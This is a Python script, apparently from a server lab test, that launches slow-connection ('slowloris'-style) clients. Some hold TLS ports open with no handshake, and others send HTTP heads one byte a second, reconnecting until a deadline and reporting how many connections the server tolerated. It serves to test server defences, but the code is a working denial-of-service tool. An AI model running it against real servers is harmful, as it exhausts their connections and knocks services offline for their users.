"""Hostile HTTP clients for the servers' lab test: run inside the attackers' namespace, hold connections open.

    python hostile_clients.py SPEC_JSON

SPEC: {"duration_s": float, "groups": [{"kind": "idle_tls" | "slow_tls" | "slow_plain", "host": str,
"port": int, "sources": [address, ...], "per_source": int}]}. Each client holds one connection the way its
kind says, and connects again (after 0.2 s) whenever the server drops it, until duration_s ends:
- idle_tls: TCP connected to a TLS port, no ClientHello ever sent (a handshake that never starts);
- slow_tls: TLS handshake done (no client certificate), then a POST head, one byte a second;
- slow_plain: plain HTTP, a GET head one byte a second.
Prints one JSON line: connects, drops (ended by the server), refused (reset or closed at once), the most
connections open at one time, and per kind the same.
"""
from __future__ import annotations

import asyncio
import contextlib
import json
import ssl
import sys
import time

HEAD = {"slow_tls": b"POST /webhook HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\n"
                    b"Content-Length: 10\r\nX-Padding: " + b"p" * 64 + b"\r\n\r\n{}",
        "slow_plain": b"GET /metrics HTTP/1.1\r\nHost: victim\r\nX-Padding: " + b"p" * 64 + b"\r\n\r\n"}


class Stats:
    def __init__(self) -> None:
        self.connects = self.drops = self.refused = self.open = self.max_open = 0

    def opened(self) -> None:
        self.connects += 1
        self.open += 1
        self.max_open = max(self.max_open, self.open)


async def client(kind: str, host: str, port: int, source: str, until: float, total: Stats, mine: Stats) -> None:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    while time.monotonic() < until:
        t0 = time.monotonic()
        writer = None
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(
                host, port, local_addr=(source, 0), ssl=ctx if kind == "slow_tls" else None,
                server_hostname="" if kind == "slow_tls" else None), 15)
            for s in (total, mine):
                s.opened()
            try:
                if kind == "idle_tls":
                    data = await asyncio.wait_for(reader.read(1), max(0.1, until - time.monotonic()))
                    ended = data == b""
                else:
                    ended = False
                    for byte in HEAD[kind]:
                        if time.monotonic() >= until:
                            break
                        writer.write(bytes([byte]))
                        await writer.drain()
                        try:
                            if await asyncio.wait_for(reader.read(1024), 1.0) == b"":
                                ended = True
                                break
                        except TimeoutError:
                            pass
            except TimeoutError:
                ended = False
            except (ConnectionError, OSError, ssl.SSLError):
                ended = True
            finally:
                for s in (total, mine):
                    s.open -= 1
            if ended:
                quick = time.monotonic() - t0 < 0.5
                for s in (total, mine):
                    if quick:
                        s.refused += 1
                    else:
                        s.drops += 1
        except (ConnectionError, OSError, ssl.SSLError, TimeoutError):
            for s in (total, mine):
                s.refused += 1
        finally:
            if writer is not None:
                writer.transport.abort()
        await asyncio.sleep(0.2)


async def main(spec: dict) -> dict:
    until = time.monotonic() + spec["duration_s"]
    total, per_kind, tasks = Stats(), {}, []
    for g in spec["groups"]:
        mine = per_kind.setdefault(g["kind"], Stats())
        for source in g["sources"]:
            for _ in range(g["per_source"]):
                tasks.append(asyncio.create_task(client(g["kind"], g["host"], g["port"], source, until, total, mine)))
                await asyncio.sleep(0.002)   # a burst, not one instant: the listen backlog is not the subject
    await asyncio.gather(*tasks)
    return {**vars(total), "kinds": {k: vars(v) for k, v in per_kind.items()}}


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        print(json.dumps(asyncio.run(main(json.loads(sys.argv[1])))), flush=True)
